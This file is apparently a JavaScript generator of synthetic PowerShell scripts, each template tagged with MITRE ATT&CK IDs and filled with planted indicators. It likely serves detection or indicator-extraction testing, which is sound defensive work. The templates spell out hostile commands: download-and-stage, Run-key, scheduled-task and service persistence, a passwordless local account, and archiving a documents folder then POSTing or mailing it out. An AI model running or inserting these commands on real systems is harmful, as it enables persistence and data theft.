const RUN = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run';

/** PowerShell bodies: `lines(planter, rng)` gives the script's lines, `techniques` what they plant. */
export const powershellTemplates = [
  { name: 'web-client', techniques: ['T1105'], lines: (plant) => [
    '$client = New-Object System.Net.WebClient', `$client.Headers.Add('User-Agent', '${plant.userAgent()}')`, `$client.DownloadFile('${plant.url('exe')}', '${plant.windowsPath()}')`] },
  { name: 'web-request', techniques: ['T1105'], lines: (plant) => [`Invoke-WebRequest -Uri '${plant.url('zip')}' -OutFile '${plant.windowsPath('zip')}' -UseBasicParsing`] },
  { name: 'download-string', techniques: ['T1105'], lines: (plant) => [`$note = (New-Object Net.WebClient).DownloadString('${plant.url('txt')}')`, 'Write-Output $note.Length'] },
  { name: 'bits', techniques: ['T1197'], lines: (plant) => ['Import-Module BitsTransfer', `Start-BitsTransfer -Source '${plant.url('cab')}' -Destination '${plant.windowsPath('cab')}'`] },
  { name: 'run-key', techniques: ['T1547.001'], lines: (plant, rng) => [`New-ItemProperty -Path '${plant.registryKey('HKCU:', RUN)}' -Name '${rng.name()}' -Value '${plant.windowsPath()}' -PropertyType String -Force`] },
  { name: 'task', techniques: ['T1053.005'], lines: (plant) => [
    `$action = New-ScheduledTaskAction -Execute '${plant.windowsPath()}'`, '$trigger = New-ScheduledTaskTrigger -AtLogOn',
    `Register-ScheduledTask -TaskName '${plant.task()}' -Action $action -Trigger $trigger`] },
  { name: 'service', techniques: ['T1543.003'], lines: (plant) => [`New-Service -Name '${plant.service()}' -BinaryPathName '${plant.windowsPath()}' -StartupType Automatic`] },
  { name: 'account', techniques: ['T1136.001'], lines: (plant) => [`New-LocalUser -Name '${plant.account()}' -NoPassword -Description 'local helper'`] },
  { name: 'mutex', techniques: [], lines: (plant) => [`$mutex = New-Object System.Threading.Mutex($false, '${plant.mutex()}')`, 'if (-not $mutex.WaitOne(0)) { exit }'] },
  { name: 'tcp', techniques: ['T1095'], lines: (plant) => {
    const { ip, port } = plant.endpoint();
    return [`$socket = New-Object System.Net.Sockets.TcpClient('${ip}', ${port})`, '$stream = $socket.GetStream()', '$stream.Close()'];
  } },
  { name: 'hash-check', techniques: [], lines: (plant) => [`$sum = (Get-FileHash -Algorithm SHA256 -Path '${plant.windowsPath('dll')}').Hash`, `if ($sum -ne '${plant.hash()}') { Write-Output 'changed' }`] },
  { name: 'mail', techniques: ['T1048'], lines: (plant) => [`Send-MailMessage -To '${plant.mail()}' -From '${plant.mail()}' -Subject 'report' -SmtpServer '${plant.domain()}' -Attachments '${plant.windowsPath('log')}'`] },
  { name: 'discovery', techniques: ['T1033', 'T1057', 'T1082'], lines: (plant) => ['whoami /all', 'systeminfo', `Get-Process | Out-File -FilePath '${plant.windowsPath('txt')}'`] },
  { name: 'post', techniques: ['T1048', 'T1560'], lines: (plant) => {
    const zip = plant.windowsPath('zip');
    return [`Compress-Archive -Path 'C:\\Users\\Public\\Documents' -DestinationPath '${zip}'`, `Invoke-RestMethod -Method Post -Uri '${plant.url('php')}' -InFile '${zip}'`];
  } },
  { name: 'wmi', techniques: ['T1047'], lines: (plant) => [`Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList '${plant.windowsPath()}'`] },
  { name: 'ping', techniques: ['T1018'], lines: (plant) => [`Test-Connection -ComputerName '${plant.ip()}' -Count 1 -Quiet`] },
  { name: 'resolve', techniques: ['T1016'], lines: (plant) => ['Get-NetIPConfiguration', `[System.Net.Dns]::GetHostAddresses('${plant.domain()}')`] },
];
